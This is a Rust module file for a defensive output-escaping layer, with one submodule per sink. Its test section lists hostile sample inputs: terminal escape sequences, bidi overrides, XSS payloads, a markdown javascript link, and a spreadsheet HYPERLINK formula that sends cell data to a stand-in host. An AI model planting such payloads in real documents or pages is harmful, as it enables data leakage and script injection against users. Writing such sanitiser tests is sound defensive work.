//! One escape for each sink. Text was cleaned on its way in; here it is made harmless again on its way out, whoever wrote it.
//!
//! A sink's file holds its rule and the hostile inputs that the rule must survive.

pub(crate) mod csv;
pub(crate) mod html;
pub(crate) mod ics;
pub(crate) mod markdown;
pub(crate) mod mermaid;
pub(crate) mod terminal;
pub(crate) mod xml;

#[cfg(test)]
pub(crate) mod hostile {
    //! Texts that a lead may be handed by a survey, a file or a colleague's branch.

    /// Each was seen to do harm in some sink.
    pub(crate) const TEXTS: [&str; 18] = [
        "\u{1b}]0;title\u{7}",
        "\u{1b}[2K\u{1b}[1A",
        "\u{9b}31m",
        "ok\r error",
        "a\u{8}\u{8}b",
        "one\ntwo\r\nthree\u{2028}four\u{85}five",
        "An\u{202e}na \u{2066}x\u{2069}",
        "=HYPERLINK(\"http://x.example/\"&A1)",
        "+44 20 7946 0000",
        "''=1",
        "＝1+1",
        "](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "```\n# H",
        "a | b \\| c",
        "\"><script>alert('1')</script>",
        "section x :crit, 2027-01-01, 1d\n%% c;",
        "\0\u{200b}\u{feff}",
    ];
}
